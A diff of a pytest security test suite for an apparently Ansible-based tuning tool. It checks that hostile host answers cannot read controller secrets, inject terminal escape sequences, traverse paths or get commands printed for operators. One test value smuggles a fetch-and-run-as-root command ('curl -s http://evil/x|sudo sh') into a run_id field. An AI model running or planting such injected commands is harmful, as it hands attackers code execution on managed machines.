@@ -109,8 +109,7 @@ def test_facts_in_an_answer_run_no_tasks_on_the_controller(either_hosts: Hosts):
     assert "1 host: to reboot\n  evil: memory-swappiness: host\n" in seen.output
 
 
-def test_facts_in_an_answer_send_no_file_of_the_controller(either_hosts: Hosts):
-    hosts = either_hosts
+def test_facts_in_an_answer_send_no_file_of_the_controller(hosts: Hosts):
     (hosts.folder / "id_rsa").write_text("SECRET")
     hosts.add("evil", tune=ANSWER | {"trial": LIVE, "run_id": "r1", "kept": True, "ansible_facts": {"hosttune_bundle": str(hosts.folder / "id_rsa")}})  # fmt: skip
     seen = hosts._controller.run(
@@ -155,9 +154,8 @@ def test_facts_choose_no_file_through_other_variables_and_those_of_the_inventory
     assert not hosts.has_sent("evil", "# policy of secret")
 
 
-def test_facts_set_no_words_of_a_playbook(either_hosts: Hosts):
+def test_facts_set_no_words_of_a_playbook(hosts: Hosts):
     """They are read once, on the first host of the play, which may be this one."""
-    hosts = either_hosts
     words = {"results": str(hosts.folder / "elsewhere"), "approved": "1" * 64, "hosttune_require_compliant": False}
     hosts.add("evil", setup={"ansible_facts": words}, tune_info=ANSWER)
     hosts.add("good", setup={"ansible_facts": {}}, tune_info=ANSWER | {"compliant": False, "check": {"host": "x"}})
@@ -182,80 +180,85 @@ def test_facts_that_come_later_change_no_setting(hosts: Hosts):
     assert "evil: its facts set hosttune_deb, which only the controller may set" in seen.output
 
 
-def test_record_is_kept_only_if_it_is_one(either_hosts: Hosts):
-    hosts = either_hosts
-    record = (HOSTS / "no-gpu-debian12.json").read_text()
-    hosts.add("evil", tune_info=ANSWER | {"record": hosts.payload.read_text()})
-    hosts.add("good", tune_info=ANSWER | {"record": record, "check": {"host": "x"}})
-    seen = hosts.play("check.yml", gather="record")
-    assert seen.status == 2, seen.output
-    assert "evil: the answer of this host is none of hosttune: record: expected a record of hosttune" in seen.output
-    kept = sorted(str(path.relative_to(hosts.folder)) for path in hosts.folder.glob("hosttune-results/**/*.json"))
-    assert kept == ["hosttune-results/evil.json", "hosttune-results/good.json", "hosttune-results/records/good.json"]
-    assert (hosts.folder / "hosttune-results/records/good.json").read_text() == record
-
-
 MALFORMED: dict[str, Any] = {"digest": "abc", "changes": [{}], "findings": 5}
+PLAN = ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "check": {"host": "x"}, "plan_diff": []}
+FAKED = "x\r1 host: nothing to change\n2 hosts: made\n  good"
+RECORD = HOSTS / "no-gpu-debian12.json"
 
 
-@pytest.mark.parametrize("playbook", ["check.yml", "apply.yml"])
-def test_malformed_answer_costs_its_host_only(playbook: str, either_hosts: Hosts):
-    hosts = either_hosts
-    good = ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "check": {"host": "x"}, "plan_diff": []}
-    for name, answer in (("evil", ANSWER | MALFORMED), ("good", good)):
-        hosts.add(name, tune_info=answer, tune=answer)
-    seen = hosts.play(playbook, hosttune_serial="100%", hosttune_max_fail_percentage=50)
-    assert seen.status == 2, seen.output
-    told = seen.output.partition("1 host: failed or gave no answer\n")[2].partition("\n")[0]
-    assert told == "  evil: the answer of this host is none of hosttune: digest: expected 64 digits of 0-9 and a-f"
-    assert f"1 host: 1 change {'to make' if playbook == 'check.yml' else 'made'}\n  good\n" in seen.output
-    if playbook == "check.yml":
-        assert json.loads((hosts.folder / "hosttune-results/good.json").read_text())["hosts"] == [{"host": "good"}]
-
-
-def test_text_of_a_host_steers_no_terminal_and_makes_no_line(either_hosts: Hosts):
-    hosts = either_hosts
-    faked = "x\r1 host: nothing to change\n2 hosts: made\n  good"
-    answer = ANSWER | {
-        "digest": "1" * 64, "changes": [CHANGE | {"rule": ESCAPES, "address": faked}], "reboot_reasons": [ESCAPES],
-        "interrupted": [faked], "plan_diff": [{"prepared": ESCAPES}], "warnings": [ESCAPES], "deprecations": [{"msg": ESCAPES}],
+@pytest.fixture(scope="module", params=["newest", "oldest"])
+def looked(request: pytest.FixtureRequest, programs: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Hosts, Played]:
+    """One play of check.yml over all kinds of hosts, the first of them a bad one: on it runs what runs once."""
+    own = programs if request.param == "newest" else environment(pythons()[-1], FOR_OLDER)
+    hosts = Hosts(own, tmp_path_factory.mktemp("looked"))
+    hosts.add("bad", tune_info=ANSWER | MALFORMED)
+    hosts.add("tasks", tune_info=PLAN | {"record": hosts.payload.read_text()})
+    for name in ("../../trav", ".hidden"):
+        hosts.add(name, tune_info=ANSWER | {"check": {"host": "x"}})
+    hosts.add("good", tune_info=PLAN | {"record": RECORD.read_text()})
+    hosts.add("liar", tune_info=PLAN | {"changes": [CHANGE | {"after": "11"}]})
+    loud = {
+        "digest": "2" * 64, "changes": [CHANGE | {"rule": ESCAPES, "address": FAKED}], "reboot_reasons": [ESCAPES],
+        "interrupted": [FAKED], "plan_diff": [{"prepared": ESCAPES}], "warnings": [ESCAPES], "deprecations": [{"msg": ESCAPES}],
         "deferred": [{"rule": "r", "subject": "", "reason": ESCAPES}], "exception": ESCAPES,
     }  # fmt: skip
-    hosts.add("evil", tune_info=answer)
-    hosts.add("loud", tune_info={"failed": True, "msg": ESCAPES + faked, "exception": ESCAPES})
+    hosts.add("loud", tune_info=ANSWER | loud)
+    hosts.add("loud-failed", tune_info={"failed": True, "msg": ESCAPES + FAKED, "exception": ESCAPES})
     hosts.add("junk", tune_info={})
-    (hosts.folder / "host2/tune_info.json").write_text(f"{ESCAPES}\n{{}}\n{ESCAPES}\r{faked}\n")
-    seen = hosts.play("check.yml")
+    (hosts.folder / "host8/tune_info.json").write_text(f"{ESCAPES}\n{{}}\n{ESCAPES}\r{FAKED}\n")
+    seen = hosts.play("check.yml", gather="record", results=str(hosts.folder / "a/b/results"))
     assert seen.status == 2, seen.output
-    assert "\\x1b]0;TITLE\\x07" in seen.output
+    return hosts, seen
+
+
+def test_record_is_kept_only_if_it_is_one(looked: tuple[Hosts, Played]):
+    hosts, seen = looked
+    assert "tasks: the answer of this host is none of hosttune: record: expected a record of hosttune" in seen.output
+    records = hosts.folder / "a/b/results/records"
+    assert [path.name for path in records.iterdir()] == ["good.json"]
+    assert (records / "good.json").read_text() == RECORD.read_text()
+
+
+def test_malformed_answer_costs_its_host_only(looked: tuple[Hosts, Played]):
+    hosts, seen = looked
+    why = "the answer of this host is none of hosttune: digest: expected 64 digits of 0-9 and a-f"
+    assert f"\n  bad: {why}\n" in seen.output
+    kept = {path.stem: json.loads(path.read_text()) for path in hosts.folder.glob("a/b/results/*.json")}
+    assert kept["good"]["hosts"] == [{"host": "good"}]
+    assert (kept["bad"]["kind"], kept["bad"]["reason"]) == ("hosttune missing", why)
+
+
+def test_text_of_a_host_steers_no_terminal_and_makes_no_line(looked: tuple[Hosts, Played]):
+    _hosts, seen = looked
+    assert "\n  loud: \\x1b]0;TITLE\\x07\\x1b[2J\\u202e\\x9b31m {{ lookup(" in seen.output
     assert not [char for char in seen.output if not char.isprintable() and char not in "\n\t"], seen.output
     assert "\n2 hosts: made" not in seen.output
     assert "\n1 host: nothing to change" not in seen.output
 
 
-def test_name_of_a_run_that_is_a_command_is_never_printed_to_be_typed(hosts: Hosts):
-    hosts.add("evil", tune=ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "run_id": "r1; curl -s http://evil/x|sudo sh #"})  # fmt: skip
-    seen = hosts.play("apply.yml")
-    assert seen.status == 2, seen.output
-    assert "evil: the answer of this host is none of hosttune: run_id: expected the name of a run" in seen.output
-    assert "curl" not in seen.output
-
-
-def test_name_in_the_inventory_leaves_no_folder(hosts: Hosts):
-    for name in ("../../trav", ".hidden", "good"):
-        hosts.add(name, tune_info=ANSWER | {"check": {"host": "x"}})
-    folder = hosts.folder / "a/b/results"
-    seen = hosts.play("check.yml", results=str(folder))
-    assert seen.status == 2, seen.output
+def test_name_in_the_inventory_leaves_no_folder(looked: tuple[Hosts, Played]):
+    hosts, seen = looked
     assert "../../trav: not all that it answered is kept: its name in the inventory is no file name" in seen.output
-    assert [str(path.relative_to(hosts.folder)) for path in (hosts.folder / "a").rglob("*.json")] == ["a/b/results/good.json"]  # fmt: skip
+    kept = {path.name for path in hosts.folder.rglob("*.json") if path.name in ("trav.json", ".hidden.json")}
+    assert kept == set()
 
 
-def test_digest_for_which_hosts_show_other_changes_is_told(hosts: Hosts):
+def test_digest_for_which_hosts_show_other_changes_is_told(looked: tuple[Hosts, Played]):
     """One diff is shown for all hosts with a digest, and what is approved is the digest."""
-    good = ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "plan_diff": []}
-    hosts.add("good", tune_info=good)
-    hosts.add("evil", tune_info=good | {"changes": [CHANGE | {"after": "11"}]})
-    seen = hosts.play("check.yml")
-    assert "2 hosts: other changes for the same digest" in seen.output
-    assert f"  digest {'1' * 64}: evil other than good\n" in seen.output
+    assert "\n2 hosts: other changes for the same digest" in looked[1].output
+    assert f"\n  digest {'1' * 64}: good other than liar\n" in looked[1].output
+
+
+def test_rollout_names_a_bad_answer_and_prints_no_command_of_a_host(hosts: Hosts):
+    injected = {"digest": "1" * 64, "changes": [CHANGE], "run_id": "r1; curl -s http://evil/x|sudo sh #"}
+    hosts.add("bad", tune=ANSWER | MALFORMED)
+    hosts.add("evil", tune=ANSWER | injected)
+    hosts.add("good", tune=ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "run_id": "20260101-000000-abcd"})
+    seen = hosts.play("apply.yml", hosttune_serial="100%")
+    assert seen.status == 2, seen.output
+    assert "\n1 host: 1 change made\n  good\n" in seen.output
+    told = seen.output.partition("2 hosts: failed or gave no answer\n")[2]
+    assert told.startswith("  bad: the answer of this host is none of hosttune: digest: ")
+    assert "\n  evil: the answer of this host is none of hosttune: run_id: expected the name of a run\n" in told
+    assert "/undo.yml -e run_id=20260101-000000-abcd\n" in seen.output
+    assert "curl" not in seen.output
